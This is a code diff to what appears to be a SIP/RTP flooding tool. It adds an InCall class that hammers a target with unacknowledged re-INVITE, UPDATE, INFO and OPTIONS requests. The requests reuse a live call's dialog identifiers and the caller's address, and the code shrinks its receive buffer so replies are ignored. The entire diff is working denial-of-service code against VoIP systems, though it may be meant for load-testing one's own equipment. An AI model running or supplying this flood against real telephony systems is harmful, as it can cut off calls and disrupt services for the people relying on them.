@@ -9,7 +9,7 @@ import socket
 import struct
 import time
 
-from . import rtp
+from . import rtp, sip
 
 IP_PKTINFO = 8  # Linux; Python has no name for it.
 SPAWN = multiprocessing.get_context("spawn")
@@ -136,6 +136,28 @@ class Known(Flood):
             sender.bind((address, 0))
             port = sender.getsockname()[1]
             paced(tools, rate, lambda number: sender.sendto(datagram(4 * number, address, port, target[0]), target))
+
+
+class InCall(Flood):
+    """Requests of a call that is up, from the caller's address: re-INVITE, UPDATE, INFO, OPTIONS, never acknowledged."""
+
+    def __init__(self, target, call, media, rate):
+        dialog = {"call_id": call.id, "sender": call.sender, "to": call.to}
+        super().__init__(target, call.phone.local[0], call.target, dialog, media, rate)
+
+    @staticmethod
+    def flood(tools, target, address, uri, dialog, media, rate):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+            sender.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
+            sender.bind((address, 0))
+            local, offer = sender.getsockname(), sip.offer(*media)
+
+            def act(number):
+                method = ("INVITE", "UPDATE", "INFO", "OPTIONS")[number % 4]
+                body = offer if number % 4 < 2 else b""
+                sender.sendto(sip.request(method, uri, local=local, sequence=1000 + number, body=body, **dialog), target)
+
+            paced(tools, rate, act)
 
 
 KINDS = ("INVITE", "REGISTER", "OPTIONS", None)
